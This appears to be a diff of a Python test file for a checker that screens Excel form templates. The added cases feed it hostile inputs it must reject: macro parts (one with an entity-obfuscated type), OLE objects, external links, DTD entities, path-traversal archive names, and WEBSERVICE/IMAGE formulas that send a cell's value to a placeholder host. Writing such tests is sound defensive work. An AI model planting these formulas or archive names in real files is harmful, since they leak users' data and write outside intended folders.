@@ -39,6 +39,12 @@ def with_external(kind: str) -> bytes:
     return changed(FORM, {rels: parts_of(FORM)[rels].replace(end, link.encode() + end)})
 
 
+def with_kind(kind: str) -> bytes:
+    """A form that holds a part of that kind under a name that tells nothing."""
+    said = KINDS.replace(b"</Types>", f'<Override PartName="/xl/a.bin" ContentType="{kind}"/></Types>'.encode())
+    return with_part(changed(FORM, {"[Content_Types].xml": said}), "xl/a.bin", b"x")
+
+
 def test_すべての目印が_場所とともに見つかる():
     checked = own_excel.check(FORM)
     assert checked.faults == ()
@@ -222,6 +228,16 @@ def test_まちがった目印は_どこがなぜかと_近いものを言う(co
         (changed(FORM, {STRINGS: '<?xml version="1.0" encoding="UTF-16"?><sst/>'.encode("utf-16")}), "こわれています"),
         (changed(FORM, {STRINGS: b'<!DOCTYPE s [<!ENTITY a "b">]><sst/>'}), "安全に開けない"),
         (changed(FORM, {"xl/bomb.xml": b" " * 31_000_000}), "大きすぎる"),
+        (with_kind("application/vnd.ms-office.vbaProject"), "マクロ"),
+        (with_kind("application/vnd.ms-office.vb&#97;Project"), "マクロ"),
+        (with_kind("application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"), "リンク"),
+        (with_kind("application/vnd.openxmlformats-officedocument.oleObject"), "埋めこまれている"),
+        (changed(FORM, {"[Content_Types].xml": KINDS.decode().encode("utf-16")}), "こわれています"),
+        (with_part(FORM, "xl/theme/theme9.dat", b'<!DOCTYPE s [<!ENTITY a "b">]><a/>'), "安全に開けない"),
+        (with_part(FORM, "../../evil.txt", b"x"), "安全に開けない"),
+        (with_part(FORM, "xl\\..\\evil.txt", b"x"), "安全に開けない"),
+        (own_form("{{ 本人.氏名 }}", '=WEBSERVICE("http://example.invalid/?"&A1)'), "つながる式"),
+        (own_form("{{ 本人.氏名 }}", '=_xlfn.IMAGE ("http://example.invalid/?"&A1)'), "つながる式"),
     ],
 )
 def test_危ないファイルは_ひらかない(content, words):
@@ -266,3 +282,15 @@ def test_zipとしても正しい():
     with zipfile.ZipFile(BytesIO(filled().content)) as packed:
         assert packed.testzip() is None
     assert [fault.code for fault in own_excel.check(filled().content).faults] == ["LAYOUT_WITHOUT_MARKS"]
+
+
+def test_高さを決めていない行は_入ったことばに合わせて測りなおされる():
+    before = parts_of(own_form("{{ 相談.内容 }}", "{{ 相談.希望 }}", "見出し"))[SHEET].decode()
+    rows = before.replace('<row r="1"', '<row r="1" ht="12.8" customHeight="false"').replace(
+        '<row r="2"', '<row r="2" ht="40" customHeight="true"').replace('<row r="3"', '<row r="3" ht="12.8"')
+    form = changed(own_form("{{ 相談.内容 }}", "{{ 相談.希望 }}", "見出し"), {SHEET: rows.encode()})
+    made = own_excel.fill(form, {"相談.内容": "家賃のこと。" * 50, "相談.希望": "仕事"}).content
+    after = parts_of(made)[SHEET].decode()
+    assert '<row r="1" customHeight="false"' in after
+    assert '<row r="2" ht="40" customHeight="true"' in after
+    assert '<row r="3" ht="12.8"' in after
